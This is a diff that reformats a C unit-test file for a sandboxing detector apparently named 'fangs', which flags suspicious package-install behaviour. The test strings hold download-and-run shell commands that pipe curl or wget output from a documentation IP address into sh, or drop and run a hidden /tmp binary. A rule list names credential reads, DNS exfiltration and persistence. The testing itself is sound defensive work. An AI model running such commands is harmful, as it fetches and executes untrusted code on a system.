@@ -243,8 +243,7 @@ START_TEST(download_and_run)
 	evaluate();
 	expect("download-and-run", "sh -c curl -fsSL http://198.51.100.9/i.sh | bash", FANGS_SEV_CRITICAL);
 	expect("download-and-run", "sh -c wget -q -O- http://198.51.100.9/x | sh -s", FANGS_SEV_CRITICAL);
-	expect("download-and-run",
-	       "/bin/sh -c curl -s -o /tmp/.x http://198.51.100.9/x && chmod +x /tmp/.x && /tmp/.x",
+	expect("download-and-run", "/bin/sh -c curl -s -o /tmp/.x http://198.51.100.9/x && chmod +x /tmp/.x && /tmp/.x",
 	       FANGS_SEV_CRITICAL);
 	ck_assert_uint_eq(count_rule("download-and-run"), 3);
 }
@@ -847,12 +846,25 @@ END_TEST
 START_TEST(builtin_set)
 {
 	fangs_rule_info r;
-	static const char *const ids[] = {"cred-read-by-script", "script-network-not-registry", "dns-oob-exfil-service",
-					  "dns-tunnel-label", "dns-many-subdomains", "download-and-run",
-					  "persistence-shell-startup", "persistence-cron-systemd",
-					  "persistence-ssh-authorized-keys", "proc-environ-other", "dropped-binary-exec",
-					  "fileless-exec", "detached-process", "ptrace-by-script", "mount-by-script",
-					  "namespace-by-script", "signal-outside-tree", "kernel-code-load", "perf-event-open",
+	static const char *const ids[] = {"cred-read-by-script",
+					  "script-network-not-registry",
+					  "dns-oob-exfil-service",
+					  "dns-tunnel-label",
+					  "dns-many-subdomains",
+					  "download-and-run",
+					  "persistence-shell-startup",
+					  "persistence-cron-systemd",
+					  "persistence-ssh-authorized-keys",
+					  "proc-environ-other",
+					  "dropped-binary-exec",
+					  "fileless-exec",
+					  "detached-process",
+					  "ptrace-by-script",
+					  "mount-by-script",
+					  "namespace-by-script",
+					  "signal-outside-tree",
+					  "kernel-code-load",
+					  "perf-event-open",
 					  "sensor-blinded"};
 	for (size_t i = 0; i < sizeof(ids) / sizeof(ids[0]); i++) {
 		ck_assert_msg(fangs_rules_find(rules, ids[i], &r) == 0, "no built-in rule %s", ids[i]);
@@ -897,11 +909,13 @@ START_TEST(bad_rules)
 		     "rule r5: match: no conditions");
 	expect_error("rules:\n  - id: r6\n    description: d\n    severity: low\n    match: {path: relative/x}\n",
 		     "rule r6: path: 'relative/x' must be absolute");
-	expect_error("rules:\n  - id: r7\n    description: d\n    severity: low\n    match: {dns_label: {min_length: 9}}\n",
-		     "rule r7: dns_label and subdomains apply to dns_query events only");
+	expect_error(
+		"rules:\n  - id: r7\n    description: d\n    severity: low\n    match: {dns_label: {min_length: 9}}\n",
+		"rule r7: dns_label and subdomains apply to dns_query events only");
 	expect_error("rules:\n  - id: r8\n    description: d\n    severity: low\n    match: {op: ptrace}\n",
 		     "rule r8: op and detail apply to syscall events only");
-	expect_error("rules:\n  - id: r9\n    description: d\n    severity: low\n    match: {events_lost: true, kind: exec}\n",
+	expect_error("rules:\n  - id: r9\n    description: d\n    severity: low\n    match: {events_lost: true, kind: "
+		     "exec}\n",
 		     "rule r9: events_lost is a run condition");
 	expect_error("rules:\n  - id: r10\n    description: d\n    severity: low\n    match: {events_lost: false}\n",
 		     "rule r10: events_lost: only 'true'");
@@ -1006,8 +1020,9 @@ START_TEST(config_section)
 	fangs_config_free(cfg);
 
 	/* a bad inline rule stops the config load with its line */
-	snprintf(cfgtext, sizeof(cfgtext), "rules:\n  add:\n    - id: x\n      description: d\n"
-					   "      severity: loud\n      match: {kind: exec}\n");
+	snprintf(cfgtext, sizeof(cfgtext),
+		 "rules:\n  add:\n    - id: x\n      description: d\n"
+		 "      severity: loud\n      match: {kind: exec}\n");
 	ck_assert_int_eq(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "bad.yaml"), FANGS_ECONFIG);
 	ck_assert_ptr_nonnull(strstr(fangs_error_last(), "bad.yaml:5: rule x: severity"));
 	/* disabling a rule that does not exist is a mistake worth hearing about */
@@ -1125,7 +1140,6 @@ static void npm_unpacks_modkit(size_t n)
 		ev->flags = i ? FANGS_OPEN_WRITE : FANGS_OPEN_READ;
 	}
 }
-
 
 START_TEST(first_run_with_hit_waits)
 {
@@ -1441,13 +1455,14 @@ static fangs_run_state outcome(fangs_sandbox_result *r, const char *output, char
 
 START_TEST(install_outcomes)
 {
-	static const char npm_failed[] = "relay: no C compiler found for Linux\n"
-					 "relay: cannot build the native addon\n"
-					 "npm error code 1\n"
-					 "npm error path /root/app/node_modules/relay\n\n"
-					 "npm error command failed\n"
-					 "npm error command sh -c node preinstall.js\n"
-					 "npm error A complete log of this run can be found in: /root/.npm/_logs/x.log\n";
+	static const char npm_failed[] =
+		"relay: no C compiler found for Linux\n"
+		"relay: cannot build the native addon\n"
+		"npm error code 1\n"
+		"npm error path /root/app/node_modules/relay\n\n"
+		"npm error command failed\n"
+		"npm error command sh -c node preinstall.js\n"
+		"npm error A complete log of this run can be found in: /root/.npm/_logs/x.log\n";
 	fangs_sandbox_result r;
 	char why[600];
 
